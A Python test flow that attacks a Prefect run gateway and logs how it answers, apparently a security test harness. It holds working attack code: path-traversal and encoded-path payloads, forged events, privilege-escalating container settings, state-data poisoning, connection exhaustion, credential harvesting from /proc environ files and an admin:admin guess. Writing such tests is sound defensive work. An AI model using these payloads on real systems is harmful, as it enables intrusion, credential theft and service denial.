"""A hostile flow against the run gateway, holding only its own environment (its run token
and the gateway's URL). It speaks raw HTTP and websockets, so that no client library
tidies its paths, and tries each class of attack in several spellings: paths read one way
and sent another, websockets other than its own events, events about other runs,
bodies that reach past its own run, and starving the worker process. It logs one line,
`attack results: {...}`, with what the gateway answered to each attempt; the test then
checks the books from the operator's side."""

import base64
import http.client
import json
import os
import socket
import time
import uuid
from datetime import datetime, timezone
from urllib.parse import urlsplit

from prefect import flow, get_run_logger
from prefect.context import get_run_context

TOKEN = os.environ.get("PREFECT_API_AUTH_STRING", "")
API = urlsplit(os.environ.get("PREFECT_API_URL", "http://127.0.0.1:1/api"))
AUTH = "Basic " + base64.b64encode(TOKEN.encode()).decode()
#: The name of the deployment run the flow tries to create as already waiting for a slot.
WORKER_NAMED_RUN = "gw-attack-awaiting-slot"


def raw(method, path, body=None, headers=None, read=True):
    """One request as bytes on a socket: the path exactly as written here."""
    data = body if isinstance(body, bytes) else b"" if body is None else json.dumps(body).encode()
    head = [f"{method} {path} HTTP/1.1", f"Host: {API.netloc}", f"Authorization: {AUTH}"]
    head += ["Content-Type: application/json", "Connection: close"]
    head += [f"{k}: {v}" for k, v in (headers or {"Content-Length": str(len(data))}).items()]
    sock = socket.create_connection((API.hostname, API.port), timeout=30)
    try:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + data)
        if not read:
            return sock
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
    except OSError as exc:
        return f"error: {type(exc).__name__}"
    finally:
        if read:
            sock.close()
    try:
        return int(reply.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return f"no answer: {reply[:60]!r}"


def websocket_attempt(path, messages=(), wait=2.0):
    """Open a websocket at `path`, authenticate, send `messages`; what happened."""
    from websockets.exceptions import ConnectionClosed, InvalidStatus
    from websockets.sync.client import connect

    url = f"ws://{API.netloc}{path}"
    try:
        with connect(url, subprotocols=["prefect"], open_timeout=10) as ws:
            ws.send(json.dumps({"type": "auth", "token": TOKEN}))
            reply = json.loads(ws.recv(timeout=10))
            if reply.get("type") != "auth_success":
                return f"auth {reply}"
            for message in messages:
                ws.send(json.dumps(message))
            try:
                ws.recv(timeout=wait)
                return "open"
            except TimeoutError:
                return "open"
    except InvalidStatus as exc:
        return exc.response.status_code
    except ConnectionClosed as exc:
        return f"closed {exc.rcvd.code if exc.rcvd else None}"
    except OSError as exc:
        return f"error: {type(exc).__name__}"


def hold_websockets(count):
    """Open `count` websockets at once and keep them open: how each first answered."""
    from websockets.sync.client import connect

    held, outcomes = [], []
    for _ in range(count):
        try:
            ws = connect(
                f"ws://{API.netloc}/api/events/out", subprotocols=["prefect"], open_timeout=10
            )
            held.append(ws)
            ws.send(json.dumps({"type": "auth", "token": TOKEN}))
            outcomes.append(json.loads(ws.recv(timeout=10)).get("type"))
        except Exception as exc:  # noqa: BLE001 - reported, not raised
            outcomes.append(type(exc).__name__)
    for ws in held:
        ws.close()
    return outcomes


def event(name, resource, related=(), payload=None, event_id=None):
    return {
        "occurred": datetime.now(timezone.utc).isoformat(),
        "event": name,
        "resource": {"prefect.resource.id": resource},
        "related": [
            {"prefect.resource.id": r, "prefect.resource.role": role} for r, role in related
        ],
        "payload": payload or {},
        "id": event_id or str(uuid.uuid4()),
    }


@flow
def attack(victim: dict, gateway_port: int, isolated: bool = False, server_port: int = 0) -> None:
    logger = get_run_logger()
    own = str(get_run_context().flow_run.id)
    other, other_task, deployment = victim["run"], victim["task_run"], victim["deployment"]
    plain, secret, pool = victim["plain_deployment"], victim["secret_block"], victim["pool"]
    results = {}
    steps = {"pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": "id"}}]}

    # 1. The path read one way and sent another.
    climbs = ["..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%2E%2e"]
    results["dot_segments"] = (
        [
            raw("PATCH", f"/api/flow_runs/{own}/labels/{c}/{c}/{c}/deployments/{deployment}", steps)
            for c in climbs
        ]
        + [
            raw(
                "POST",
                f"/api/flow_runs/{own}/set_state/{c}/{c}/{other}/set_state",
                {"state": {"type": "CANCELLED"}, "force": True},
            )
            for c in climbs[:3]
        ]
        + [
            raw(
                "PATCH",
                f"/api/flow_runs/{own}/./../../block_documents/{secret}",
                {"data": {"value": "x"}},
            ),
            raw(
                "PATCH",
                f"/api/flow_runs/{own}\\..\\..\\block_documents\\{secret}",
                {"data": {"value": "x"}},
            ),
            raw(
                "PATCH",
                f"/api/flow_runs/{own}/%5c..%5c..%5cblock_documents%5c{secret}",
                {"data": {"value": "x"}},
            ),
            raw(
                "PATCH",
                f"/api/flow_runs/{own}%2f..%2f..%2fwork_pools%2f{pool}",
                {"is_paused": True},
            ),
        ]
    )
    results["hash_and_query"] = [
        raw("POST", f"/api/variables{s}/filter", {"name": "gw_attack", "value": 1})
        for s in ("%23", "%3f", "%3F", "%2523", "#", "?x=")
    ] + [raw("POST", f"/api/automations{s}/filter", {"name": "gw_attack"}) for s in ("%23", "%3F")]
    results["control_characters"] = [
        raw("POST", f"/api/variables{s}/filter", {"name": "gw_attack", "value": 1})
        for s in ("%00", "%0a", "%0d%0a", "%09", "%e2%80%ae")
    ]

    # 2. Websockets: only its own events in, and events out.
    results["websockets"] = [
        websocket_attempt(f"/api/work_pools/{pool}/workers/connect"),
        websocket_attempt("/api/task_runs/subscriptions/scheduled"),
        websocket_attempt("/api/logs/out"),
        websocket_attempt("/api/events/in/../../task_runs/subscriptions/scheduled"),
        websocket_attempt("/api/events/%2e%2e/task_runs/subscriptions/scheduled"),
        websocket_attempt("/api/events/in%23"),
    ]

    # 3. Events about other runs, and what readers of events trust.
    own_rel = (f"prefect.flow-run.{own}", "flow-run")
    forged = {
        "cancel_other": event(
            "prefect.flow-run.Cancelling", f"prefect.flow-run.{other}", [own_rel]
        ),
        "other_related": event(
            "gw.attack.custom",
            "gw.attack.thing",
            [own_rel, (f"prefect.flow-run.{other}", "flow-run")],
        ),
        "reparent_task": event(
            "prefect.task-run.Completed",
            f"prefect.task-run.{other_task}",
            [own_rel],
            {
                "task_run": {
                    "flow_run_id": own,
                    "name": "stolen",
                    "task_key": "k",
                    "dynamic_key": "0",
                },
                "validated_state": {"type": "COMPLETED", "name": "Completed"},
            },
        ),
        "inject_task": event(
            "prefect.task-run.Running",
            f"prefect.task-run.{victim['injected_task_run']}",
            [(f"prefect.flow-run.{other}", "flow-run")],
            {
                "task_run": {
                    "flow_run_id": other,
                    "name": "injected",
                    "task_key": "k",
                    "dynamic_key": "0",
                },
                "validated_state": {"type": "RUNNING", "name": "Running"},
            },
        ),
        "payload_id_override": event(
            "prefect.task-run.Running",
            f"prefect.task-run.{uuid.uuid4()}",
            [own_rel],
            {
                "task_run": {
                    "id": other_task,
                    "flow_run_id": own,
                    "name": "x",
                    "task_key": "k",
                    "dynamic_key": "0",
                },
                "validated_state": {"type": "RUNNING", "name": "Running"},
            },
        ),
        "managed_namespace": event("prefect-managed.usage.recorded", f"prefect.flow-run.{own}"),
        # The workers' released-slot event: each would wake the workspace's waiting workers.
        "slot_released": event(
            "prefect-managed.workspace.slot-released", "prefect-managed.workspace.gw", [own_rel]
        ),
        "other_deployment": event(
            "gw.attack.custom", f"prefect.deployment.{deployment}", [own_rel]
        ),
        "foreign_context": event(
            "gw.attack.custom",
            "gw.attack.thing",
            [own_rel, (f"prefect.deployment.{plain}", "deployment")],
        ),
        "no_run": event("gw.attack.custom", "gw.attack.thing"),
        "automation_related": event(
            "gw.attack.custom",
            "gw.attack.thing",
            [own_rel, (f"prefect.automation.{uuid.uuid4()}", "automation")],
        ),
        "from_the_future": event(
            "prefect.task-run.Completed",
            f"prefect.task-run.{uuid.uuid4()}",
            [own_rel],
            {
                "task_run": {
                    "flow_run_id": own,
                    "name": "future",
                    "task_key": "k",
                    "dynamic_key": "9",
                },
                "validated_state": {"type": "COMPLETED", "name": "Completed"},
            },
        ),
    }
    forged["from_the_future"]["occurred"] = "2099-01-01T00:00:00+00:00"
    control = event("gw.attack.control", "gw.attack.thing", [own_rel])
    results["events_sent"] = websocket_attempt(
        "/api/events/in", [*forged.values(), control], wait=3.0
    )
    results["forged_event_ids"] = {name: e["id"] for name, e in forged.items()}
    results["control_event_id"] = control["id"]
    # The same events over HTTP.
    results["events_over_http"] = raw("POST", "/api/events", list(forged.values()))

    # 4. Bodies of allowed writes that reach past the run.
    now = datetime.now(timezone.utc).isoformat()
    workspace = victim["limit"].removeprefix("prefect-managed-")
    usage_key = f"usage-{workspace}-{datetime.now(timezone.utc):%Y%m}-run-{own}"
    deep: dict = {}
    for _ in range(300):  # past what the server can answer with
        deep = {"a": deep}
    results["bodies"] = {
        "infrastructure_pid": raw(
            "PATCH",
            f"/api/flow_runs/{own}",
            {"infrastructure_pid": "unix:///var/run/docker.sock:victim"},
        ),
        "job_variables": raw(
            "PATCH", f"/api/flow_runs/{own}", {"job_variables": {"privileged": True}}
        ),
        "own_run_scheduled": raw(
            "POST",
            f"/api/flow_runs/{own}/set_state",
            {"state": {"type": "SCHEDULED"}, "force": True},
        ),
        "own_run_pending": raw(
            "POST", f"/api/flow_runs/{own}/set_state", {"state": {"type": "PENDING"}, "force": True}
        ),
        "child_in_plain_pool": raw(
            "POST",
            "/api/flow_runs/",
            {
                "flow_id": victim["flow"],
                "parent_task_run_id": other_task,
                "work_pool_name": victim["plain_pool"],
                "job_variables": {"privileged": True},
            },
        ),
        "child_with_deployment": raw(
            "POST",
            "/api/flow_runs/",
            {"flow_id": victim["flow"], "deployment_id": plain, "parent_task_run_id": other_task},
        ),
        "run_plain_deployment": raw(
            "POST",
            f"/api/deployments/{plain}/create_flow_run",
            {"job_variables": {"privileged": True, "volumes": ["/:/host"]}},
        ),
        "run_managed_elsewhere": raw(
            "POST",
            f"/api/deployments/{deployment}/create_flow_run",
            {"work_queue_name": "default", "state": {"type": "SCHEDULED"}},
        ),
        "run_managed_running": raw(
            "POST", f"/api/deployments/{deployment}/create_flow_run", {"state": {"type": "RUNNING"}}
        ),
        "task_run_of_victim_id": raw(
            "POST",
            "/api/task_runs/",
            {"id": other_task, "flow_run_id": own, "task_key": "k", "dynamic_key": "1"},
        ),
        "take_run_slot": raw(
            "POST",
            "/api/v2/concurrency_limits/increment-with-lease",
            {"names": [victim["limit"]], "slots": 1, "lease_duration": 60},
        ),
        "take_run_slot_case": raw(
            "POST",
            "/api/v2/concurrency_limits/increment",
            {"names": [victim["limit"].upper()], "slots": 1},
        ),
        "lease_for_other": raw(
            "POST",
            "/api/v2/concurrency_limits/increment-with-lease",
            {"names": ["gw-attack"], "slots": 1, "holder": {"type": "flow_run", "id": other}},
        ),
        "label_reserved": raw(
            "PATCH", f"/api/flow_runs/{own}/labels", {"prefect.worker.name": "x"}
        ),
        "suspend_own_run": raw(
            "POST",
            f"/api/flow_runs/{own}/set_state",
            {"state": {"type": "PAUSED", "state_details": {"pause_reschedule": True}}},
        ),
        "state_names_a_lease": raw(
            "POST",
            f"/api/flow_runs/{own}/set_state",
            {
                "state": {
                    "type": "RUNNING",
                    "state_details": {"deployment_concurrency_lease_id": str(uuid.uuid4())},
                }
            },
        ),
        "release_read_lease": raw(
            "POST",
            "/api/v2/concurrency_limits/decrement-with-lease",
            {"lease_id": str(uuid.uuid4())},
        ),
        "renew_read_lease": raw(
            "POST",
            f"/api/v2/concurrency_limits/leases/{uuid.uuid4()}/renew",
            {"lease_duration": 86400},
        ),
        "extra_field": raw(
            "POST",
            f"/api/flow_runs/{own}/set_state",
            {"state": {"type": "RUNNING"}, "force": False, "flow_run_id": other},
        ),
        "pull_steps": raw("PATCH", f"/api/deployments/{deployment}", steps),
        "secret": raw("PATCH", f"/api/block_documents/{secret}", {"data": {"value": "x"}}),
        "pause_pool": raw("PATCH", f"/api/work_pools/{pool}", {"is_paused": True}),
        "delete_usage": [raw("DELETE", f"/api/artifacts/{a}") for a in victim["usage_artifacts"]],
        # 8. State data that is no result's metadata: read back, it would break every read
        # of the run's states (its finish, which records its usage, among them), and the
        # server makes an artifact of any data, under the key it names.
        "poisoned_state_data": [
            raw(
                "POST",
                f"/api/flow_runs/{own}/set_state",
                {"state": {"type": kind, "data": data}},
            )
            for kind, data in (
                ("COMPLETED", {"storage_key": 1}),
                ("COMPLETED", {"storage_key": "k", "serializer": "not a serializer"}),
                ("FAILED", {"storage_key": "k", "expiration": "not a date"}),
                ("COMPLETED", {"storage_key": "k", "serializer": {"type": "compressed"}}),
                ("COMPLETED", {"storage_key": [own], "artifact_key": usage_key}),
                ("CRASHED", {"storage_key": "k", "artifact_key": usage_key}),
                ("COMPLETED", usage_key),
                ("COMPLETED", [usage_key]),
                ("RUNNING", {"storage_key": 1}),
                (["COMPLETED"], {"storage_key": "k"}),
                ("COMPLETED", {"storage_key": "k", "serializer": {"type": ["pickle"]}}),
                ("COMPLETED", {"storage_key": "\ud800"}),
                (
                    "COMPLETED",
                    {"storage_key": "k", "serializer": {"type": "json", "dumps_kwargs": deep}},
                ),
                (
                    "COMPLETED",
                    {"storage_key": "k", "serializer": {"type": "pickle", "picklelib": "this"}},
                ),
                (
                    "FAILED",
                    {
                        "storage_key": "k",
                        "serializer": {"type": "json", "jsonlib": "venv.__main__"},
                    },
                ),
            )
        ]
        + [
            raw(
                "POST",
                "/api/task_runs/",
                {
                    "flow_run_id": own,
                    "task_key": "poison",
                    "dynamic_key": "1",
                    "state": {"type": "RUNNING", "data": {"storage_key": 1}},
                },
            )
        ],
        # 9. States named as the worker names its own: a deployment run created as one
        # already waiting for a slot, an ending that would count as an infrastructure
        # retry, a lost host or a refused quota.
        "worker_named_states": [
            raw("POST", f"/api/flow_runs/{own}/set_state", {"state": {"type": kind, "name": name}})
            for kind, name in (
                ("FAILED", "AwaitingInfrastructureRetry"),
                ("COMPLETED", "awaiting infrastructure retry"),
                ("CRASHED", "HostLost"),
                ("FAILED", "quotaexhausted"),
            )
        ]
        + [
            raw(
                "POST",
                f"/api/deployments/{deployment}/create_flow_run",
                {"name": WORKER_NAMED_RUN, "state": {"type": "SCHEDULED", "name": name}},
            )
            for name in ("AwaitingConcurrencySlot", "AWAITINGCONCURRENCYSLOT")
        ],
        "automation": raw(
            "POST", "/api/automations/", {"name": "gw_attack", "trigger": {}, "actions": []}
        ),
        # 7. The smaller ones: another run's task run under its own logs and artifacts.
        "log_on_other_task": raw(
            "POST",
            "/api/logs/",
            [
                {
                    "name": "x",
                    "level": 20,
                    "message": "forged",
                    "timestamp": now,
                    "flow_run_id": own,
                    "task_run_id": other_task,
                }
            ],
        ),
        "artifact_on_other_task": raw(
            "POST",
            "/api/artifacts/",
            {"key": "gw-attack", "flow_run_id": own, "task_run_id": other_task},
        ),
    }

    # 6. Exhaustion: many runs named in one batch, a huge declared body, idle
    # connections, websockets by the dozen.
    started = time.monotonic()
    results["logs_naming_many"] = raw(
        "POST",
        "/api/logs/",
        [
            {
                "name": "x",
                "level": 20,
                "message": "m",
                "timestamp": now,
                "flow_run_id": own,
                "task_run_id": str(uuid.uuid4()),
            }
            for _ in range(1500)
        ],
    )
    results["logs_naming_many_seconds"] = round(time.monotonic() - started, 2)
    started = time.monotonic()
    sock = raw(
        "POST", "/api/logs/", b"", headers={"Content-Length": str(160 * 1024 * 1024)}, read=False
    )
    try:
        sock.settimeout(20)
        reply = sock.recv(200)
        results["huge_body"] = int(reply.split(b" ", 2)[1]) if reply else "closed"
    except OSError as exc:
        results["huge_body"] = f"error: {type(exc).__name__}"
    finally:
        sock.close()
    results["huge_body_seconds"] = round(time.monotonic() - started, 2)
    # Under isolation each connection is also a tunnel connection, of which a run holds
    # a bounded number: fewer, so that its own read still gets through.
    idle = [
        socket.create_connection((API.hostname, API.port), timeout=30)
        for _ in range(40 if isolated else 200)
    ]
    trickle = socket.create_connection((API.hostname, API.port), timeout=30)
    trickle.sendall(b"GET /api/flow_runs/")
    results["read_while_idle"] = raw("GET", f"/api/flow_runs/{own}")
    time.sleep(14)
    closed = 0
    for conn in [*idle, trickle]:
        conn.settimeout(2)
        try:
            closed += conn.recv(10) == b""
        except OSError:
            pass
        conn.close()
    results["idle_closed"] = closed
    results["idle_opened"] = len(idle) + 1
    results["websockets_held"] = hold_websockets(12)

    # 5. The gateway's port, from inside (host networking): held while a worker serves.
    if not isolated:
        probe = socket.socket()
        try:
            probe.bind(("127.0.0.1", gateway_port))
            results["bind_gateway_port"] = "bound"
        except OSError as exc:
            results["bind_gateway_port"] = f"refused: {exc.errno}"
        finally:
            probe.close()

    # 6. The worker's credential: the environment of every process it can read.
    environments = {"os.environ": dict(os.environ)}
    for proc in os.listdir("/proc"):
        if proc.isdigit():
            try:
                with open(f"/proc/{proc}/environ", "rb") as file:
                    environments[proc] = file.read().decode(errors="replace")
            except OSError:
                pass
    results["environments"] = environments

    # 7. The Prefect server directly, around the gateway: with no credential, with the
    # run's token, and with a guess.
    direct = {}
    for name, headers in (
        ("none", {}),
        ("run_token", {"Authorization": f"Basic {base64.b64encode(TOKEN.encode()).decode()}"}),
        ("guess", {"Authorization": f"Basic {base64.b64encode(b'admin:admin').decode()}"}),
    ):
        try:
            conn = http.client.HTTPConnection("127.0.0.1", server_port, timeout=5)
            conn.request("GET", "/api/admin/version", headers=headers)
            direct[name] = conn.getresponse().status
            conn.close()
        except OSError as exc:
            direct[name] = f"unreachable: {type(exc).__name__}"
    results["server_directly"] = direct

    results["read_own_run"] = raw("GET", f"/api/flow_runs/{own}")
    logger.info("attack results: %s", json.dumps(results))
